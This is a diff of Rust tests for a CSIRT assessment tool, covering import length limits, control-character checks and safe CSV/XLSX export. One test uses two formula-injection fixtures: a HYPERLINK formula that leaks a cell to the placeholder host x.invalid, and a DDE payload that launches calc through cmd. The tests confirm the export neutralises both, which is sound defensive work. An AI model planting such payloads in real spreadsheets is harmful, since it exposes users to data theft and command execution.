@@ -85,6 +85,41 @@ fn malformed_imports_are_refused_with_a_clear_error_and_change_nothing() {
             "item 1.1: free text is given but no \"other\" option is chosen",
         ),
         ("comment on a missing item", file(r#""answers":{},"comments":{"9.1":"x"}"#), "item 9.1: comment for an item that does not exist"),
+        (
+            "comment longer than its limit",
+            file(&format!(r#""answers":{{}},"comments":{{"4.10":"{}"}}"#, "x".repeat(32_768))),
+            "item 4.10: the comment is limited to 10000 characters (32768 given)",
+        ),
+        (
+            "evidence longer than its limit",
+            file(&format!(r#""answers":{{}},"evidence":{{"2.8":"{}"}}"#, "証".repeat(10_001))),
+            "item 2.8: the evidence is limited to 10000 characters (10001 given)",
+        ),
+        (
+            "free-text answer longer than its limit",
+            file(&format!(r#""answers":{{"2.9.w":"{}"}}"#, "w".repeat(10_001))),
+            "item 2.9.w: the free-text answer is limited to 10000 characters",
+        ),
+        (
+            "organisation name with a line break",
+            br#"{"format":"csirt-assessment/1","questionnaire":"jpcert-2015","organisation":{"name":"CSIRT\nTokyo"},"answers":{}}"#.to_vec(),
+            "the organisation's name cannot contain a line break, tab or other control character (U+000A)",
+        ),
+        (
+            "organisation name longer than its limit",
+            format!(r#"{{"format":"csirt-assessment/1","questionnaire":"jpcert-2015","organisation":{{"name":"{}"}},"answers":{{}}}}"#, "N".repeat(201)).into_bytes(),
+            "the organisation's name is limited to 200 characters (201 given)",
+        ),
+        (
+            "respondent name with a tab",
+            file(r#""answers":{},"workshop":{"respondents":[{"name":"Ann\tLee"}]}"#),
+            "workshop, respondent 1 (\"Ann\\tLee\"): the respondent's name cannot contain",
+        ),
+        (
+            "agreement note longer than its limit",
+            file(&format!(r#""answers":{{"2.8":"b"}},"workshop":{{"consensus":{{"2.8":{{"answer":"b","note":"{}"}}}}}}"#, "n".repeat(10_001))),
+            "item 2.8: workshop, agreed answer: the agreement note is limited to 10000 characters",
+        ),
     ];
     assert!(cases.len() >= 12);
     for (name, bytes, expected) in cases {
@@ -209,4 +244,183 @@ fn csv_and_xlsx_exports_hold_answers_scores_and_gaps() {
         text.contains("xl/worksheets/sheet2.xml"),
         "two sheets: answers and gaps"
     );
+}
+
+/// Runs `csirt assessment export <id> --format <format>` and returns the file and stderr.
+fn export(db: &Path, id: &str, format: &str, lang: &str, path: &Path) -> String {
+    let out = csirt_db(
+        db,
+        &[
+            "assessment",
+            "export",
+            id,
+            "--format",
+            format,
+            "--lang",
+            lang,
+            "-o",
+            path.to_str().unwrap(),
+        ],
+    );
+    assert!(out.status.success(), "{}", stderr(&out));
+    stderr(&out)
+}
+
+/// The rows of an exported CSV (after its byte-order mark), as a CSV reader sees them.
+fn csv_rows(path: &Path) -> Vec<Vec<String>> {
+    let bytes = std::fs::read(path).unwrap();
+    assert_eq!(&bytes[..3], b"\xEF\xBB\xBF");
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(&bytes[3..])
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_string).collect())
+        .collect()
+}
+
+fn imported(dir: &Path, db: &Path, a: &csirt_model::Assessment) -> String {
+    let path = dir.join("in.json");
+    std::fs::write(&path, a.to_json_pretty()).unwrap();
+    let out = csirt_db(db, &["assessment", "import", path.to_str().unwrap()]);
+    assert!(out.status.success(), "{}", stderr(&out));
+    stdout(&out).trim().to_string()
+}
+
+/// The issue's inputs: formulas in comments and in a free-text answer come out of the CSV as
+/// text a spreadsheet shows, not runs; ids and look-alike numbers stay exactly as typed.
+#[test]
+fn csv_export_neutralises_formulas_and_keeps_ids_as_typed() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("db.sqlite3");
+    let mut a = csirt_model::demo::demo_assessment(csirt_model::Lang::En);
+    let hyperlink = r#"=HYPERLINK("http://x.invalid/?"&A1,"open")"#;
+    let dde = "@SUM(1+1)*cmd|' /C calc'!A0";
+    a.comments.insert("4.1".into(), hyperlink.into());
+    a.comments.insert("4.10".into(), dde.into());
+    a.comments.insert("4.2".into(), "007".into());
+    a.evidence.insert("4.3".into(), "NaN".into());
+    a.evidence.insert("4.4".into(), "-1".into());
+    a.answers
+        .insert("2.9.w".into(), csirt_model::Answer::Text("=1+1".into()));
+    let id = imported(dir.path(), &db, &a);
+    let csv_path = dir.path().join("a.csv");
+    let warnings = export(&db, &id, "csv", "en", &csv_path);
+    assert!(!warnings.contains("warning"), "{warnings}");
+    let rows = csv_rows(&csv_path);
+    let row = |item: &str| rows.iter().find(|r| r[0] == item).unwrap().clone();
+    assert_eq!(row("4.1")[14], format!("'{hyperlink}"));
+    assert_eq!(row("4.10")[14], format!("'{dde}"));
+    assert_eq!(row("2.9.w")[3], "'=1+1");
+    assert_eq!(row("4.4")[15], "'-1");
+    assert_eq!(row("4.2")[14], "007");
+    assert_eq!(row("4.3")[15], "NaN");
+    assert!(rows.iter().any(|r| r[0] == "4.10") && rows.iter().any(|r| r[0] == "4.1"));
+    for r in &rows {
+        for cell in r {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?} would run as a formula"
+            );
+        }
+    }
+}
+
+/// A comment stored before the limits existed (written into the database directly) is cut in
+/// both exports with a marker, the CLI warns naming the item, and the files are complete.
+#[test]
+fn a_cell_too_long_for_excel_is_cut_with_a_warning_not_a_failed_file() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("db.sqlite3");
+    let a = csirt_model::demo::demo_assessment(csirt_model::Lang::Ja);
+    let id = imported(dir.path(), &db, &a);
+    {
+        let conn = rusqlite::Connection::open(&db).unwrap();
+        let long = "長".repeat(32_768);
+        let n = conn
+            .execute(
+                "INSERT INTO answer_note (respondent_id, item_id, comment, evidence, updated_at)
+                 SELECT id, '4.10', ?1, NULL, '2026-01-01T00:00:00Z' FROM respondent
+                 WHERE assessment_id = ?2 AND is_default = 1
+                 ON CONFLICT (respondent_id, item_id) DO UPDATE SET comment = excluded.comment",
+                rusqlite::params![long, id.parse::<i64>().unwrap()],
+            )
+            .unwrap();
+        assert_eq!(n, 1);
+    }
+    for lang in ["ja", "en"] {
+        let csv_path = dir.path().join(format!("{lang}.csv"));
+        let warnings = export(&db, &id, "csv", lang, &csv_path);
+        let expected = match lang {
+            "ja" => "項目 4.10",
+            _ => "item 4.10",
+        };
+        assert!(warnings.contains(expected), "{lang}: {warnings}");
+        let rows = csv_rows(&csv_path);
+        let comment = &rows.iter().find(|r| r[0] == "4.10").unwrap()[14];
+        assert!(comment.starts_with("長長長"));
+        assert!(
+            comment.ends_with(']'),
+            "{lang}: the marker ends the cut cell"
+        );
+        assert!(comment.encode_utf16().count() <= 32_767);
+        assert!(
+            rows.iter().any(|r| r[0] == "6.3"),
+            "{lang}: rows after the cut are there"
+        );
+
+        let xlsx_path = dir.path().join(format!("{lang}.xlsx"));
+        let warnings = export(&db, &id, "xlsx", lang, &xlsx_path);
+        assert!(warnings.contains(expected), "{lang}: {warnings}");
+        let bytes = std::fs::read(&xlsx_path).unwrap();
+        assert_eq!(&bytes[..2], b"PK");
+    }
+}
+
+/// The store refuses a text over its limit at every save that takes one, naming the item, and
+/// changes nothing.
+#[test]
+fn the_store_refuses_over_long_texts_and_changes_nothing() {
+    let dir = tempfile::tempdir().unwrap();
+    let db = dir.path().join("db.sqlite3");
+    let set = csirt_model::builtin().unwrap();
+    let q = &set.questionnaire;
+    let a = csirt_model::demo::demo_assessment(csirt_model::Lang::En);
+    let id: i64 = imported(dir.path(), &db, &a).parse().unwrap();
+    let before = dump(&db);
+    let mut store = csirt_store::Store::open(&db).unwrap();
+    let long = "x".repeat(10_001);
+    let errors = [
+        store.save_note(q, id, None, "4.10", Some(&long), None),
+        store.save_note(q, id, None, "4.10", None, Some(&long)),
+        store.save_answer(
+            q,
+            id,
+            None,
+            "2.9.w",
+            &csirt_model::Answer::Text(long.clone()),
+            None,
+        ),
+        store.set_consensus(
+            q,
+            id,
+            "2.8",
+            Some(&csirt_model::Answer::Text("b".into())),
+            None,
+            Some(&long),
+        ),
+    ];
+    for e in errors {
+        let e = e.unwrap_err();
+        assert!(
+            matches!(e, csirt_store::StoreError::InvalidAnswer { .. }),
+            "{e}"
+        );
+        assert!(e.to_string().contains("limited to"), "{e}");
+    }
+    assert_eq!(dump(&db), before, "a refused save changed the store");
+    assert!(store
+        .save_note(q, id, None, "4.10", Some(&"x".repeat(10_000)), None)
+        .is_ok());
+    drop(store);
+    assert_ne!(dump(&db), before, "the longest allowed comment is saved");
 }
